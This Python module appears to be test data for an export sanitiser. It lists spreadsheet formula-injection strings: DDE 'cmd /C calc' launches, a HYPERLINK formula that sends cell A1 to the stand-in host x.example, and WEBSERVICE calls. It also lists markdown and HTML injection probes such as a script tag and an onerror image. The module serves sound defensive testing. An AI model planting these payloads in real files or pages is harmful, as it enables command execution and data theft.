"""Strings that a report may hold and no export may act on."""

from __future__ import annotations

FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"more")', '=""&A1', "==1", "= 1", "="),
    *('=WEBSERVICE("http://x.example")', '=DDE("cmd";"/C calc";"x")', "=SUM(A1:A9)*cmd|'/C calc'!A0"),
    *("+1+1", "+cmd|' /C calc'!A0", "+SUM(1)", "++1", "+"),
    *("-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "-", "-A1"),
    *("@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "@@", "@IMPORTXML(A1)"),
    *("\t=1+1", "\t+1", "\tword", "\r=1+1", "\r-1"),
)

MARKUP = (
    *(
        "[more](http://x.example)",
        "![](http://x.example/a.png)",
        "[x]: http://x.example",
        "[[x]]",
        "](http://x.example)",
    ),
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<http://x.example>",
        "<!-- x",
        "&lt;b&gt;",
        "&#60;",
    ),
    *("`code`", "``", "```\ncode\n```", "~~~", "~~gone~~", "    four spaces", "\tcode"),
    *("*a*", "**a**", "_a_", "__a__", "***", "a\\", "\\", "\\[x\\](y)", "\\|", "a | b", "| - | - |", "|"),
    *(
        "# head",
        "## head",
        "head\n====",
        "head\n----",
        "---",
        "- item",
        "+ item",
        "* item",
        "1. item",
        "1) item",
        "> said",
    ),
    *(
        "line\n\n# head",
        "line\r\rnext",
        "line  \nnext",
        "http://x.example",
        "www.x.example",
        "a@x.example",
        "$x$",
        "^1",
    ),
)
